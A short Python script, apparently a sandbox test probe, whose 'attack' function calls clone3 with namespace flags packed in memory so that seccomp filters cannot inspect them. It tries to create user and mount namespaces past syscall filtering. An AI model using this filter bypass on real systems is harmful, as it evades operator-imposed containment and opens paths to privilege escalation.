"""Make namespaces by the call whose flags no filter can see."""

import ctypes
import os

from tools import each, syscall


def attack(flags):
    words = (ctypes.c_ulong * 11)(flags, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    pid = syscall("clone3", words, 88)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return hex(flags)


each(lambda it=it: attack(it) for it in (0x10000000, 0x10020000, 0x10000080, 0))
